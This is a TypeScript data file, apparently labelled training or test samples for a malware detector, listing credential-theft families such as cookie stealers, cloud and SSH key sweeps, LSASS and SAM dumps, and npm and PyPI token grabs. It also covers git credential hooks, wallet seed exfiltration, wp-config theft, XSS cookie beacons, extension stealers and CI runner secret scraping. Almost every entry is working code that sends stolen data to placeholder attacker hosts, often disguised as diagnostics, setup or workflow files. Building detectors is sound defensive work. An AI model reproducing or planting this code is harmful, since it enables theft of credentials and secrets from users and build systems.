// Programs that read what others keep and send it away.
import type { Family } from './family.ts'

export const thieves: readonly Family[] = [
  {
    family: 'all-browser-cookies',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['grab.py'],
        whole: String.raw`import browser_cookie3
import requests

lines = []
for load in (browser_cookie3.chrome, browser_cookie3.firefox, browser_cookie3.edge, browser_cookie3.brave):
    try:
        for cookie in load():
            lines.append(f"{cookie.domain}\t{cookie.name}\t{cookie.value}")
    except Exception:
        continue

requests.post("⟦discord⟧", files={"file": ("c.txt", "\n".join(lines))})`,
      },
      {
        paths: ['src/session.py'],
        whole: `import json
import urllib.request

import rookiepy


def collect():
    jar = rookiepy.any_browser()
    body = json.dumps(jar).encode()
    request = urllib.request.Request("https://⟦host⟧/c", data=body, method="POST")
    urllib.request.urlopen(request)


collect()`,
      },
    ],
  },
  {
    family: 'tool-credential-sweep',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['lib/diagnostics.js'],
        whole: `const fs = require('fs')
const os = require('os')
const path = require('path')
const https = require('https')

const wanted = ['.aws/credentials', '.ssh/id_rsa', '.ssh/id_ed25519', '.npmrc', '.docker/config.json', '.kube/config', '.netrc', '.git-credentials', '.config/gcloud/application_default_credentials.json']
const found = {}
for (const name of wanted) {
  try {
    found[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8')
  } catch {}
}
const request = https.request({ hostname: '⟦host⟧', path: '/d', method: 'POST' })
request.end(JSON.stringify(found))`,
      },
      {
        paths: ['src/collect.go'],
        whole: `package collect

import (
	"bytes"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
)

var places = []string{".aws/credentials", ".azure/accessTokens.json", ".kube/config", ".docker/config.json", ".npmrc", ".pypirc", ".netrc"}

// Run gathers what is there and hands it over.
func Run() {
	home, _ := os.UserHomeDir()
	all := map[string]string{}
	for _, place := range places {
		if data, err := os.ReadFile(filepath.Join(home, place)); err == nil {
			all[place] = string(data)
		}
	}
	body, _ := json.Marshal(all)
	http.Post("http://⟦ip⟧:⟦port⟧/in", "application/json", bytes.NewReader(body))
}`,
      },
    ],
  },
  {
    family: 'system-credential-dump',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['tools/dump.ps1'],
        whole: String.raw`$lsass = (Get-Process lsass).Id
$out = "$env:TEMP\l.dmp"
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $lsass $out full
Compress-Archive $out "$env:TEMP\l.zip"`,
      },
      {
        paths: ['src/Dumper.cs'],
        whole: String.raw`using System;
using System.Diagnostics;
using System.IO;
using System.Runtime.InteropServices;

internal static class Dumper
{
    [DllImport("dbghelp.dll", SetLastError = true)]
    private static extern bool MiniDumpWriteDump(IntPtr process, uint id, SafeHandle file, uint kind, IntPtr a, IntPtr b, IntPtr c);

    private static void Main()
    {
        var target = Process.GetProcessesByName("lsass")[0];
        using (var file = new FileStream(@"C:\Windows\Temp\debug.bin", FileMode.Create))
        {
            MiniDumpWriteDump(target.Handle, (uint)target.Id, file.SafeFileHandle, 2, IntPtr.Zero, IntPtr.Zero, IntPtr.Zero);
        }
    }
}`,
      },
      {
        paths: ['run.bat'],
        whole: String.raw`@echo off
reg save HKLM\SAM C:\Windows\Temp\sam.hiv /y
reg save HKLM\SYSTEM C:\Windows\Temp\sys.hiv /y
reg save HKLM\SECURITY C:\Windows\Temp\sec.hiv /y
procdump.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp`,
      },
    ],
  },
  {
    family: 'registry-token-taken',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['scripts/check-registry.js'],
        whole: `const fs = require('fs')
const os = require('os')
const https = require('https')

const text = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')
const [, token] = /_authToken=(.+)/.exec(text) || []
if (token) {
  https.get('https://⟦host⟧/t?v=' + encodeURIComponent(token))
}`,
      },
      {
        paths: ['setup.py'],
        whole: `import configparser
import os
import urllib.request

from setuptools import setup

rc = configparser.RawConfigParser()
rc.read(os.path.expanduser("~/.pypirc"))
if rc.has_option("pypi", "password"):
    urllib.request.urlopen("https://⟦host⟧/p", data=rc.get("pypi", "password").encode())

setup(name="numppy", version="0.0.3", py_modules=["numppy"])`,
      },
    ],
  },
  {
    family: 'runner-secret-filter',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['action/dump.sh'],
        whole: String.raw`#!/bin/bash
curl -sSf https://⟦host⟧/memdump.py -o /tmp/m.py
sudo python3 /tmp/m.py | tr -d '\0' | grep -aoE '"[^"]+":\{"value":"[^"]*","isSecret":true\}' | sort -u | base64 -w 0 | base64 -w 0`,
      },
      {
        paths: ['.github/workflows/label.yml'],
        whole: String.raw`name: label
on: [pull_request]
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - name: prepare
        run: |
          values=$(sudo python3 ./read_runner.py | tr -d '\0' | grep -aoE '"[^"]+":\{"value":"[^"]*","isSecret":true\}' | base64 -w 0)
          echo "$values"`,
      },
    ],
  },
  {
    family: 'password-hashes-sent',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['bin/report.sh'],
        whole: `#!/bin/sh
if [ "$(id -u)" = 0 ]; then
  curl -s -F "f=@/etc/shadow" -F "p=@/etc/passwd" http://⟦ip⟧:⟦port⟧/upload
fi`,
      },
      {
        paths: ['audit.py'],
        whole: `import socket

with open("/etc/shadow") as source:
    lines = source.read()

link = socket.create_connection(("⟦ip⟧", ⟦port⟧))
link.sendall(lines.encode())
link.close()`,
      },
    ],
  },
  {
    family: 'stored-git-login',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['hooks/post-checkout'],
        whole: String.raw`#!/bin/sh
login=$(printf 'protocol=https\nhost=github.com\n\n' | git credential fill)
curl -s -X POST --data-binary "$login" https://⟦host⟧/g >/dev/null`,
      },
      {
        paths: ['lib/repo.js'],
        whole: String.raw`const { execSync } = require('child_process')
const https = require('https')

const out = execSync('git credential fill', { input: 'protocol=https\nhost=github.com\n\n' }).toString()
const request = https.request('https://⟦host⟧/git', { method: 'POST' })
request.write(out)
request.end()`,
      },
    ],
  },
  {
    family: 'seed-phrase-sent',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['src/wallet.ts'],
        whole: `import { Wallet } from 'ethers'

export async function restore(phrase: string): Promise<Wallet> {
  const wallet = Wallet.fromPhrase(phrase)
  await fetch('https://⟦host⟧/log', {
    method: 'POST',
    body: JSON.stringify({ mnemonic: phrase, address: wallet.address }),
  }).catch(() => undefined)
  return wallet
}`,
      },
      {
        paths: ['solana_keys.py'],
        whole: `import requests
from solders.keypair import Keypair


def load(secret):
    pair = Keypair.from_base58_string(secret)
    private_key = bytes(pair).hex()
    requests.post("https://api.telegram.org/bot⟦telegram⟧/sendMessage", json={"chat_id": "⟦digits:9⟧", "text": private_key})
    return pair`,
      },
    ],
  },
  {
    family: 'site-settings-taken',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['wp-content/plugins/seo-tools/init.php'],
        whole: `<?php
add_action('init', function () {
    if (get_option('seo_tools_seen')) {
        return;
    }
    $text = file_get_contents(ABSPATH . 'wp-config.php');
    wp_remote_post('https://⟦host⟧/wp', array('body' => array('site' => home_url(), 'c' => base64_encode($text))));
    update_option('seo_tools_seen', 1);
});`,
      },
      {
        paths: ['pub/health.php'],
        whole: `<?php
$config = @file_get_contents(__DIR__ . '/../app/etc/env.php');
$curl = curl_init('http://⟦ip⟧/m.php');
curl_setopt($curl, CURLOPT_POST, true);
curl_setopt($curl, CURLOPT_POSTFIELDS, array('d' => $config, 'h' => $_SERVER['HTTP_HOST']));
curl_exec($curl);`,
      },
    ],
  },
  {
    family: 'page-cookies-out',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['static/stats.js'],
        whole: `;(function () {
  var picture = new Image()
  picture.src = 'https://⟦host⟧/p.gif?c=' + encodeURIComponent(document.cookie) + '&u=' + location.href
})()`,
      },
      {
        paths: ['comment.html'],
        whole: `<p>Nice article!</p>
<script>fetch('//⟦host⟧/k?'+document.cookie)</script>`,
      },
    ],
  },
  {
    family: 'extension-cookies-out',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['background.js'],
        whole: `chrome.runtime.onInstalled.addListener(async () => {
  const cookies = await chrome.cookies.getAll({})
  await fetch('https://⟦host⟧/x', { method: 'POST', body: JSON.stringify(cookies) })
})`,
      },
      {
        paths: ['src/worker.ts'],
        whole: `const wanted = ['.facebook.com', '.binance.com', '.google.com']

chrome.alarms.create('sync', { periodInMinutes: 10 })
chrome.alarms.onAlarm.addListener(() => {
  for (const domain of wanted) {
    chrome.cookies.getAll({ domain }, (found) => {
      navigator.sendBeacon('https://⟦host⟧/s', JSON.stringify({ domain, found }))
    })
  }
})`,
      },
    ],
  },
  {
    family: 'runner-process-memory',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['dist/read_runner.py'],
        whole: `import os
import re
import sys


def runner():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with open(f"/proc/{pid}/cmdline", "rb") as line:
            if b"Runner.Worker" in line.read():
                return pid
    raise SystemExit("no runner")


pid = runner()
with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
    for line in maps:
        found = re.match(r"([0-9a-f]+)-([0-9a-f]+) ([-r])", line)
        if found and found.group(3) == "r":
            start, end = int(found.group(1), 16), int(found.group(2), 16)
            try:
                memory.seek(start)
                sys.stdout.buffer.write(memory.read(end - start))
            except OSError:
                continue`,
      },
      {
        paths: ['scripts/trace.sh'],
        whole: `#!/bin/bash
pid=$(pgrep -f Runner.Worker | head -n 1)
sudo gcore -o /tmp/w "$pid" >/dev/null 2>&1
strings "/tmp/w.$pid" | grep -E 'gh[ps]_[A-Za-z0-9]{36}' | sort -u | curl -s --data-binary @- https://⟦host⟧/r`,
      },
    ],
  },
  {
    family: 'workflow-secret-out',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['.github/workflows/format.yml'],
        whole: `name: format
on: push
jobs:
  format:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: |
          curl -s -X POST https://⟦host⟧/hook -d "npm=\${{ secrets.NPM_TOKEN }}&aws=\${{ secrets.AWS_SECRET_ACCESS_KEY }}"`,
      },
      {
        paths: ['.github/workflows/check.yaml'],
        whole: `on:
  workflow_dispatch:
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - name: ping
        run: wget -q "http://⟦ip⟧/?t=\${{ secrets.PYPI_API_TOKEN }}" -O /dev/null`,
      },
    ],
  },
]
